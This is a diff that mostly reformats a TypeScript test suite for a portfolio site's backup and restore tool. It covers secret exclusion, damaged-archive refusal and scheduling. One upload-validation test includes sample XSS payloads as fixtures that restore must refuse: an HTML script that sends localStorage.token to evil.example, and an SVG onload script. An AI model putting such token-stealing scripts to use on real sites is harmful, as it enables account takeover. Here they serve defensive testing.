@@ -10,19 +10,21 @@ import { after, before, describe, it } from 'node:test';
 import { setTimeout as delay } from 'node:timers/promises';
 import { fileURLToPath } from 'node:url';
 import { createGunzip, gunzipSync, gzipSync } from 'node:zlib';
-import sharp from 'sharp';
-import tar from 'tar-stream';
+
 import { CONTENT_KINDS, type ContentKind, KINDS } from '@portfolio/contract/kinds';
 import { createConnection } from 'mysql2/promise';
+import sharp from 'sharp';
+import tar from 'tar-stream';
 import { DataSource } from 'typeorm';
+
+import { base32Decode, totpAt } from '../src/auth/totp.js';
 import { ArchiveError, type Manifest } from '../src/backup/archive.js';
-import type { RunOutcome } from '../src/backup/backup-state.js';
-import { BackupScheduler } from '../src/backup/backup-scheduler.js';
-import { BACKUP_TABLES, keptColumns, SECRET_LOOKING } from '../src/backup/backup-tables.js';
 import { runBackup } from '../src/backup/backup.js';
+import { BackupScheduler } from '../src/backup/backup-scheduler.js';
+import type { RunOutcome } from '../src/backup/backup-state.js';
+import { BACKUP_TABLES, keptColumns, SECRET_LOOKING } from '../src/backup/backup-tables.js';
 import { runRestore, TargetNotEmptyError } from '../src/backup/restore.js';
 import { type AppConfig, loadConfig } from '../src/config/config.js';
-import { base32Decode, totpAt } from '../src/auth/totp.js';
 import { ENTITIES } from '../src/database/data-source.js';
 import { ADMIN, type Api, publicSampleOf, sampleOf, startApi, TEST_DB } from './support/harness.js';
 
@@ -105,7 +107,8 @@ async function answers(api: Api, token: string) {
     const list = await api.request('GET', `/api/${kind}`);
     assert.equal(list.status, 200);
     out[kind] = list.body;
-    for (const item of list.body as { id: number }[]) out[`${kind}/${item.id}`] = (await api.request('GET', `/api/${kind}/${item.id}`)).body;
+    for (const item of list.body as { id: number }[])
+      out[`${kind}/${item.id}`] = (await api.request('GET', `/api/${kind}/${item.id}`)).body;
     const trash = KINDS[kind].softDelete.adminListsDeleted ? '' : '?includeDeleted=true';
     const admin = await api.request('GET', `/api/${kind}${trash}`, { token });
     assert.equal(admin.status, 200);
@@ -113,13 +116,20 @@ async function answers(api: Api, token: string) {
   }
   out.contacts = (await api.request('GET', '/api/contacts?includeDeleted=true', { token })).body;
   // Two-factor sign-in is set up again after a restore (its secrets are not in archives): compared apart.
-  out.users = ((await api.request('GET', '/api/admin/users', { token })).body as Record<string, unknown>[]).map(({ twoFactorEnabled: _, ...user }) => user);
+  out.users = ((await api.request('GET', '/api/admin/users', { token })).body as Record<string, unknown>[]).map(
+    ({ twoFactorEnabled: _, ...user }) => user,
+  );
   return out;
 }
 
 describe('backup tables', () => {
   it('classifies every table of ENTITIES: backed up, or left out with a reason', async () => {
-    const ds = new DataSource({ type: 'better-sqlite3', driver: (await import('libsql')).default, database: ':memory:', entities: ENTITIES });
+    const ds = new DataSource({
+      type: 'better-sqlite3',
+      driver: (await import('libsql')).default,
+      database: ':memory:',
+      entities: ENTITIES,
+    });
     await ds.initialize();
     try {
       const unclassified = ds.entityMetadatas.map((m) => m.tableName).filter((t) => !BACKUP_TABLES[t]);
@@ -129,10 +139,14 @@ describe('backup tables', () => {
         if (!policy.keep) continue;
         if (policy.onlyColumns) {
           // A table with sign-in material: every column is a deliberate choice.
-          const undecided = m.columns.map((c) => c.propertyName).filter((c) => !policy.onlyColumns!.includes(c) && !policy.secretColumns?.includes(c));
+          const undecided = m.columns
+            .map((c) => c.propertyName)
+            .filter((c) => !policy.onlyColumns!.includes(c) && !policy.secretColumns?.includes(c));
           assert.deepEqual(undecided, [], `${m.tableName}: list these columns in onlyColumns or secretColumns`);
         }
-        const secretLooking = keptColumns(m).map((c) => c.propertyName).filter((c) => SECRET_LOOKING.test(c));
+        const secretLooking = keptColumns(m)
+          .map((c) => c.propertyName)
+          .filter((c) => SECRET_LOOKING.test(c));
         assert.deepEqual(secretLooking, [], `${m.tableName} would back up columns that look like secrets`);
       }
       for (const secret of ['admin_sessions', 'password_reset_tokens']) assert.equal(BACKUP_TABLES[secret].keep, false);
@@ -158,16 +172,27 @@ describe('npm run backup → npm run restore (round trip)', () => {
     // The source is SQLite on both passes: on the MySQL pass the round trip moves a site from SQLite to MySQL.
     source = await startApi({ BACKUP_EVERY: 'off' }, { databaseUrl: '' });
     token = await source.login();
-    png = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#c8553d' } }).png().toBuffer();
+    png = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#c8553d' } })
+      .png()
+      .toBuffer();
     const form = new FormData();
     form.append('file', new Blob([new Uint8Array(png)], { type: 'image/png' }), 'cover.png');
     form.append('contentType', 'books');
     const upload = await source.request('POST', '/api/upload', { token, rawBody: form });
     assert.equal(upload.status, 201);
-    const book = await source.request('POST', '/api/books', { token, body: sampleOf.books({ title: 'ذاكرة غزة 🌊', coverImage: upload.body.url, awards: ['جائزة'], reviews: ['"Moving" — A Reader'] }) });
+    const book = await source.request('POST', '/api/books', {
+      token,
+      body: sampleOf.books({ title: 'ذاكرة غزة 🌊', coverImage: upload.body.url, awards: ['جائزة'], reviews: ['"Moving" — A Reader'] }),
+    });
     assert.equal(book.status, 201);
-    assert.equal((await source.request('PATCH', `/api/books/${book.body.id}`, { token, body: { description: 'نص معدل\nسطر ثان' } })).status, 200);
-    const trashed = await source.request('POST', '/api/books', { token, body: sampleOf.books({ title: 'In the trash', published: false }) });
+    assert.equal(
+      (await source.request('PATCH', `/api/books/${book.body.id}`, { token, body: { description: 'نص معدل\nسطر ثان' } })).status,
+      200,
+    );
+    const trashed = await source.request('POST', '/api/books', {
+      token,
+      body: sampleOf.books({ title: 'In the trash', published: false }),
+    });
     assert.equal((await source.request('PATCH', `/api/books/${trashed.body.id}`, { token, body: { isDeleted: true } })).status, 200);
     // One visible item of every other kind, with what is easy to lose on the way.
     const extras: Partial<Record<ContentKind, Record<string, unknown>>> = {
@@ -182,8 +207,18 @@ describe('npm run backup → npm run restore (round trip)', () => {
     const removed = await source.request('POST', '/api/plays', { token, body: sampleOf.plays({ title: 'Removed for good' }) });
     assert.equal((await source.request('DELETE', `/api/plays/${removed.body.id}`, { token })).status, 204);
     removedPlay = removed.body.id;
-    assert.equal((await source.request('POST', '/api/contacts', { body: { name: 'زائر', email: 'visitor@example.test', subject: 'سلام', message: 'رسالة' } })).status, 201);
-    const editor = await source.request('POST', '/api/admin/users', { token, body: { username: 'editor', email: 'editor@example.test', name: 'Editor', password: 'editor-password' } });
+    assert.equal(
+      (
+        await source.request('POST', '/api/contacts', {
+          body: { name: 'زائر', email: 'visitor@example.test', subject: 'سلام', message: 'رسالة' },
+        })
+      ).status,
+      201,
+    );
+    const editor = await source.request('POST', '/api/admin/users', {
+      token,
+      body: { username: 'editor', email: 'editor@example.test', name: 'Editor', password: 'editor-password' },
+    });
     assert.equal(editor.status, 201);
     // Sign-in material that must stay out of the archive: sessions, a reset token, password hashes,
     // the editor's two-factor secret (as sent and as stored) and recovery codes.
@@ -200,7 +235,9 @@ describe('npm run backup → npm run restore (round trip)', () => {
     twoFactorSecrets.push(...stored.map((r) => r.totpSecret));
     assert.equal(twoFactorSecrets.length, 12);
     assert.equal((await source.request('POST', '/api/admin/forgot-password', { body: { email: ADMIN.email } })).status, 200);
-    const rows = (await source.dataSource.query('SELECT id FROM admin_sessions UNION ALL SELECT id FROM password_reset_tokens')) as { id: string }[];
+    const rows = (await source.dataSource.query('SELECT id FROM admin_sessions UNION ALL SELECT id FROM password_reset_tokens')) as {
+      id: string;
+    }[];
     sessionHashes = rows.map((r) => r.id);
     assert.ok(sessionHashes.length >= 3);
     first = path.join(work, 'first.tar.gz');
@@ -244,7 +281,12 @@ describe('npm run backup → npm run restore (round trip)', () => {
     for (const hash of sessionHashes) assert.equal(everything.includes(hash), false, 'no session or reset token hash');
     for (const secret of twoFactorSecrets) assert.equal(everything.includes(secret), false, 'no two-factor secret or recovery code');
     for (const table of ['admin_totp', 'admin_recovery_codes', 'admin_login_challenges']) assert.ok(manifest.excluded.tables[table], table);
-    const users = entries.get('data/admin_users.jsonl')!.toString().trim().split('\n').map((l) => JSON.parse(l));
+    const users = entries
+      .get('data/admin_users.jsonl')!
+      .toString()
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     assert.deepEqual(Object.keys(users[0]), ['id', 'username', 'email', 'name', 'isActive', 'isSuperadmin', 'createdAt', 'updatedAt']);
   });
 
@@ -256,14 +298,26 @@ describe('npm run backup → npm run restore (round trip)', () => {
     assert.equal(result.files, 1);
     assert.deepEqual(result.admin, { username: ADMIN.username, generatedPassword: null });
     assert.ok(lines.includes('files 1/1'));
-    assert.ok(lines.some((l) => /^rows (\d+)\/\1$/.test(l)), 'progress reaches every row');
+    assert.ok(
+      lines.some((l) => /^rows (\d+)\/\1$/.test(l)),
+      'progress reaches every row',
+    );
 
     target = await startApi({ ADMIN_PASSWORD: 'restored-password-1', BACKUP_EVERY: 'off' }, { varDir, keepData: true });
     // The first admin signs in with ADMIN_PASSWORD; the other restored admin cannot until a reset.
     const targetToken = await target.login(ADMIN.username, 'restored-password-1');
-    assert.equal((await target.request('POST', '/api/admin/login', { body: { username: 'editor', password: 'editor-password' } })).status, 401);
-    assert.equal((await target.request('POST', '/api/admin/login', { body: { username: ADMIN.username, password: ADMIN.password } })).status, 401);
-    const restoredUsers = (await target.request('GET', '/api/admin/users', { token: targetToken })).body as { username: string; twoFactorEnabled: boolean }[];
+    assert.equal(
+      (await target.request('POST', '/api/admin/login', { body: { username: 'editor', password: 'editor-password' } })).status,
+      401,
+    );
+    assert.equal(
+      (await target.request('POST', '/api/admin/login', { body: { username: ADMIN.username, password: ADMIN.password } })).status,
+      401,
+    );
+    const restoredUsers = (await target.request('GET', '/api/admin/users', { token: targetToken })).body as {
+      username: string;
+      twoFactorEnabled: boolean;
+    }[];
     assert.equal(restoredUsers.find((u) => u.username === 'editor')?.twoFactorEnabled, false, 'two-factor is set up again after a restore');
     const [mine, theirs] = [sourceAnswers, await answers(target, targetToken)];
     for (const key of Object.keys(mine)) assert.deepEqual(theirs[key], mine[key], key);
@@ -287,21 +341,24 @@ describe('npm run backup → npm run restore (round trip)', () => {
     const play = await target.request('POST', '/api/plays', { token: targetToken, body: sampleOf.plays({ title: 'New after restore' }) });
     assert.equal(play.status, 201);
     assert.ok(play.body.id > removedPlay, `new play ${play.body.id}, removed ${removedPlay}`);
-    const removedList = (await target.request('GET', '/api/admin/revisions/plays/removed', { token: targetToken })).body as { id?: number; entityId?: number }[];
+    const removedList = (await target.request('GET', '/api/admin/revisions/plays/removed', { token: targetToken })).body as {
+      id?: number;
+      entityId?: number;
+    }[];
     assert.ok(JSON.stringify(removedList).includes('Removed for good'), 'still listed as deleted for good');
   });
 
   it('refuses to restore into an instance that holds data, and changes nothing', async () => {
     assert.ok(target, 'needs the restored instance');
     const before = await answers(target!, await target!.login(ADMIN.username, 'restored-password-1'));
-    await assert.rejects(
-      runRestore(targetConfig(target!.config.varDir), first),
-      (error: Error) => {
-        assert.ok(error instanceof TargetNotEmptyError);
-        assert.match(error.message, /^Refusing to restore: the database already holds rows \(.*books: 2.*admin_users: 2.*\)\. A restore goes only into an empty instance: a new database \(DATABASE_URL\) or a new VAR_DIR, before the API's first start\. Nothing was changed\.$/);
-        return true;
-      },
-    );
+    await assert.rejects(runRestore(targetConfig(target!.config.varDir), first), (error: Error) => {
+      assert.ok(error instanceof TargetNotEmptyError);
+      assert.match(
+        error.message,
+        /^Refusing to restore: the database already holds rows \(.*books: 2.*admin_users: 2.*\)\. A restore goes only into an empty instance: a new database \(DATABASE_URL\) or a new VAR_DIR, before the API's first start\. Nothing was changed\.$/,
+      );
+      return true;
+    });
     assert.deepEqual(await answers(target!, await target!.login(ADMIN.username, 'restored-password-1')), before);
   });
 
@@ -342,7 +399,8 @@ describe('damaged archives', () => {
     work = await tmp();
     const source = await startApi({ BACKUP_EVERY: 'off' }, { databaseUrl: '' });
     const token = await source.login();
-    for (let i = 0; i < 30; i++) await source.request('POST', '/api/books', { token, body: sampleOf.books({ title: `Book ${i}`, description: 'x'.repeat(2000) }) });
+    for (let i = 0; i < 30; i++)
+      await source.request('POST', '/api/books', { token, body: sampleOf.books({ title: `Book ${i}`, description: 'x'.repeat(2000) }) });
     good = path.join(work, 'good.tar.gz');
     await runBackup(source.config, { out: good });
     await source.close();
@@ -369,7 +427,10 @@ describe('damaged archives', () => {
     await packArchive(short, kept);
     const varDir = await tmp();
     if (TEST_DB === 'mysql') await emptyMysql();
-    await assert.rejects(runRestore(targetConfig(varDir), short), /^ArchiveError: The archive is truncated: \d+ listed entries are missing \(/);
+    await assert.rejects(
+      runRestore(targetConfig(varDir), short),
+      /^ArchiveError: The archive is truncated: \d+ listed entries are missing \(/,
+    );
     await targetUntouched(varDir);
   });
 
@@ -383,7 +444,10 @@ describe('damaged archives', () => {
     if (TEST_DB === 'mysql') await emptyMysql();
     await assert.rejects(runRestore(targetConfig(varDir), tampered), (error: Error) => {
       assert.ok(error instanceof ArchiveError);
-      assert.equal(error.message, 'data/books.jsonl in the archive does not match its checksum in the manifest: the archive was changed or damaged');
+      assert.equal(
+        error.message,
+        'data/books.jsonl in the archive does not match its checksum in the manifest: the archive was changed or damaged',
+      );
       return true;
     });
     await targetUntouched(varDir);
@@ -399,7 +463,10 @@ describe('damaged archives', () => {
     const varDir = await tmp();
     if (TEST_DB === 'mysql') await emptyMysql();
     await assert.rejects(runRestore(targetConfig(varDir), newer), (error: Error) => {
-      assert.equal(error.message, 'This backup was made by a newer version of the product (its database has run FromTheFuture1999999999999): update the product first');
+      assert.equal(
+        error.message,
+        'This backup was made by a newer version of the product (its database has run FromTheFuture1999999999999): update the product first',
+      );
       return true;
     });
     await targetUntouched(varDir);
@@ -411,9 +478,15 @@ describe('damaged archives', () => {
     await truncate(cut, (await readFile(good)).length - 10);
     const varDir = await tmp();
     const { NODE_TEST_CONTEXT: _, ...env } = process.env;
-    const run = spawnSync(process.execPath, [CLI, 'restore', cut], { env: { ...env, VAR_DIR: varDir, DATABASE_URL: '' }, encoding: 'utf8' });
+    const run = spawnSync(process.execPath, [CLI, 'restore', cut], {
+      env: { ...env, VAR_DIR: varDir, DATABASE_URL: '' },
+      encoding: 'utf8',
+    });
     assert.equal(run.status, 1, `${run.stdout}\n${run.stderr}`);
-    assert.equal(run.stderr, 'The archive was refused, nothing was changed: The archive is truncated: its compressed data ends early (an interrupted copy or download?)\n');
+    assert.equal(
+      run.stderr,
+      'The archive was refused, nothing was changed: The archive is truncated: its compressed data ends early (an interrupted copy or download?)\n',
+    );
     assert.equal(existsSync(path.join(varDir, 'data')), false);
   });
 
@@ -423,7 +496,11 @@ describe('damaged archives', () => {
     const manifest = JSON.parse(entries.get('manifest.json')!.toString()) as Manifest;
     entries.delete('manifest.json');
     change(entries, manifest);
-    manifest.entries = [...entries].map(([entry, data]) => ({ name: entry, size: data.length, sha256: createHash('sha256').update(data).digest('hex') }));
+    manifest.entries = [...entries].map(([entry, data]) => ({
+      name: entry,
+      size: data.length,
+      sha256: createHash('sha256').update(data).digest('hex'),
+    }));
     const file = path.join(work, name);
     await packArchive(file, new Map([['manifest.json', Buffer.from(JSON.stringify(manifest))], ...entries]));
     return file;
@@ -432,7 +509,10 @@ describe('damaged archives', () => {
   /** `npm run restore -- --verify`: its exit code and what it printed. */
   function verifyCommand(file: string) {
     const { NODE_TEST_CONTEXT: _, ...env } = process.env;
-    return spawnSync(process.execPath, [CLI, 'restore', '--verify', file], { env: { ...env, VAR_DIR: os.tmpdir(), DATABASE_URL: '' }, encoding: 'utf8' });
+    return spawnSync(process.execPath, [CLI, 'restore', '--verify', file], {
+      env: { ...env, VAR_DIR: os.tmpdir(), DATABASE_URL: '' },
+      encoding: 'utf8',
+    });
   }
 
   async function refusedBeforeWriting(file: string, message: string) {
@@ -459,38 +539,75 @@ describe('damaged archives', () => {
       entries.set('data/admin_sessions.jsonl', Buffer.from('{"id":"x"}\n'));
       manifest.tables.push({ name: 'admin_sessions', file: 'data/admin_sessions.jsonl', rows: 1, columns: ['id'] });
     });
-    await refusedBeforeWriting(file, 'The archive holds the table admin_sessions, which backups leave out: it was not made by this product');
+    await refusedBeforeWriting(
+      file,
+      'The archive holds the table admin_sessions, which backups leave out: it was not made by this product',
+    );
   });
 
   it("refuses rows beyond the API's own limits (a book description of 60 MB), in --verify too", async () => {
     const file = await forged('huge.tar.gz', (entries) => {
-      const rows = entries.get('data/books.jsonl')!.toString().trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+      const rows = entries
+        .get('data/books.jsonl')!
+        .toString()
+        .trim()
+        .split('\n')
+        .map((l) => JSON.parse(l) as Record<string, unknown>);
       rows[2].description = 'x'.repeat(60 * 1024 * 1024);
       entries.set('data/books.jsonl', Buffer.from(rows.map((r) => JSON.stringify(r)).join('\n') + '\n'));
     });
-    await refusedBeforeWriting(file, "data/books.jsonl, line 3, holds more than the API accepts (description: Must be at most 20000 characters)");
+    await refusedBeforeWriting(
+      file,
+      'data/books.jsonl, line 3, holds more than the API accepts (description: Must be at most 20000 characters)',
+    );
   });
 
   it("refuses a revision whose snapshot is beyond its kind's limits", async () => {
     const file = await forged('huge-revision.tar.gz', (entries) => {
-      const rows = entries.get('data/content_revisions.jsonl')!.toString().trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+      const rows = entries
+        .get('data/content_revisions.jsonl')!
+        .toString()
+        .trim()
+        .split('\n')
+        .map((l) => JSON.parse(l) as Record<string, unknown>);
       (rows[0].snapshot as Record<string, unknown>).awards = Array.from({ length: 201 }, () => 'prize');
       entries.set('data/content_revisions.jsonl', Buffer.from(rows.map((r) => JSON.stringify(r)).join('\n') + '\n'));
     });
-    await refusedBeforeWriting(file, 'data/content_revisions.jsonl, line 1, holds more than the API accepts (snapshot.awards: Must have at most 200 entries)');
+    await refusedBeforeWriting(
+      file,
+      'data/content_revisions.jsonl, line 1, holds more than the API accepts (snapshot.awards: Must have at most 200 entries)',
+    );
   });
 
   it('refuses uploads the upload rules refuse (a page, an SVG, HTML named .jpg, an unknown folder, a name the server does not make) before writing anything', async () => {
-    const png = await sharp({ create: { width: 4, height: 3, channels: 3, background: '#000' } }).png().toBuffer();
+    const png = await sharp({ create: { width: 4, height: 3, channels: 3, background: '#000' } })
+      .png()
+      .toBuffer();
     const html = Buffer.from('<!doctype html><script>fetch("https://evil.example/?" + localStorage.token)</script>');
     const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(localStorage.token)"/>');
     const cases: [string, Buffer, string][] = [
-      ['uploads/general/evil.html', html, 'uploads/general/evil.html is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)'],
-      ['uploads/general/evil.svg', svg, 'uploads/general/evil.svg is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)'],
+      [
+        'uploads/general/evil.html',
+        html,
+        'uploads/general/evil.html is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)',
+      ],
+      [
+        'uploads/general/evil.svg',
+        svg,
+        'uploads/general/evil.svg is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)',
+      ],
       ['uploads/general/evil.jpg', html, 'uploads/general/evil.jpg does not hold what its name says (its bytes are not an image or PDF)'],
       ['uploads/general/evil.pdf', png, 'uploads/general/evil.pdf does not hold what its name says (its bytes are image/png)'],
-      ['uploads/site/evil.png', png, 'uploads/site/evil.png is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)'],
-      ['uploads/general/Evil Name.png', png, 'uploads/general/Evil Name.png is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)'],
+      [
+        'uploads/site/evil.png',
+        png,
+        'uploads/site/evil.png is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)',
+      ],
+      [
+        'uploads/general/Evil Name.png',
+        png,
+        'uploads/general/Evil Name.png is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)',
+      ],
     ];
     for (const [name, data, message] of cases) {
       const file = await forged(`upload-${cases.findIndex((c) => c[0] === name)}.tar.gz`, (entries) => entries.set(name, data));
@@ -499,7 +616,9 @@ describe('damaged archives', () => {
   });
 
   it('a restore that fails while loading (two rows with one id) leaves no table and no file behind', async () => {
-    const png = await sharp({ create: { width: 4, height: 3, channels: 3, background: '#000' } }).png().toBuffer();
+    const png = await sharp({ create: { width: 4, height: 3, channels: 3, background: '#000' } })
+      .png()
+      .toBuffer();
     const file = await forged('duplicate.tar.gz', (entries, manifest) => {
       const lines = entries.get('data/books.jsonl')!.toString().trim().split('\n');
       entries.set('data/books.jsonl', Buffer.from([...lines, lines[0]].join('\n') + '\n'));
@@ -545,7 +664,13 @@ describe('scheduled backups and GET /api/admin/backups', () => {
   it('is in the OpenAPI document with its answer', async () => {
     const docs = await api.request('GET', '/api/docs-json');
     const get = docs.body.paths['/api/admin/backups'].get;
-    assert.deepEqual(get.responses['200'].content['application/json'].schema.required, ['every', 'keep', 'nextRunAt', 'lastRun', 'lastSuccess']);
+    assert.deepEqual(get.responses['200'].content['application/json'].schema.required, [
+      'every',
+      'keep',
+      'nextRunAt',
+      'lastRun',
+      'lastSuccess',
+    ]);
     assert.deepEqual(get.security, [{ bearer: [] }]);
   });
 
@@ -640,10 +765,14 @@ describe('scheduled backups with two API processes on one database', () => {
           });
         }
       });
-      await Promise.race([done, delay(30_000, undefined, { ref: false }).then(() => Promise.reject(new Error(`only ${outcomes.length} scheduled backups in 30 s`)))]);
+      await Promise.race([
+        done,
+        delay(30_000, undefined, { ref: false }).then(() => Promise.reject(new Error(`only ${outcomes.length} scheduled backups in 30 s`))),
+      ]);
       assert.ok(outcomes.every((o) => o.ok));
       const starts = outcomes.map((o) => o.startedAt.getTime()).sort((a, b) => a - b);
-      for (let i = 1; i < starts.length; i++) assert.ok(starts[i] - starts[i - 1] >= 900, `two runs for one due time: ${starts.join(', ')}`);
+      for (let i = 1; i < starts.length; i++)
+        assert.ok(starts[i] - starts[i - 1] >= 900, `two runs for one due time: ${starts.join(', ')}`);
       assert.equal(new Set(outcomes.map((o) => o.file)).size, 4);
     } finally {
       await two.close({ keepData: true });
@@ -666,11 +795,14 @@ describe('BACKUP_EVERY, BACKUP_KEEP, BACKUP_DIR', () => {
   });
 
   it('refuse a bad value with a sentence naming the variable', () => {
-    assert.throws(() => loadConfig({ BACKUP_EVERY: 'daily', BACKUP_KEEP: '0' }), (error: Error) => {
-      assert.match(error.message, /BACKUP_EVERY must be a duration such as 24h, 6h, 30m or 7d \(at most 366d\), or off \(got "daily"\)/);
-      assert.match(error.message, /BACKUP_KEEP/);
-      return true;
-    });
+    assert.throws(
+      () => loadConfig({ BACKUP_EVERY: 'daily', BACKUP_KEEP: '0' }),
+      (error: Error) => {
+        assert.match(error.message, /BACKUP_EVERY must be a duration such as 24h, 6h, 30m or 7d \(at most 366d\), or off \(got "daily"\)/);
+        assert.match(error.message, /BACKUP_KEEP/);
+        return true;
+      },
+    );
   });
 });
 
@@ -684,7 +816,10 @@ describe('rotation', () => {
       let removed: string[] = [];
       for (const t of times) removed = (await runBackup(config, { now: () => new Date(t) })).removed;
       assert.deepEqual(removed, ['portfolio-backup-2026-01-02T00-00-00-000Z.tar.gz']);
-      assert.deepEqual((await readdir(dir)).sort(), ['portfolio-backup-2026-01-03T00-00-00-000Z.tar.gz', 'portfolio-backup-2026-01-04T00-00-00-000Z.tar.gz']);
+      assert.deepEqual((await readdir(dir)).sort(), [
+        'portfolio-backup-2026-01-03T00-00-00-000Z.tar.gz',
+        'portfolio-backup-2026-01-04T00-00-00-000Z.tar.gz',
+      ]);
     } finally {
       await source.close();
       await rm(dir, { recursive: true, force: true });
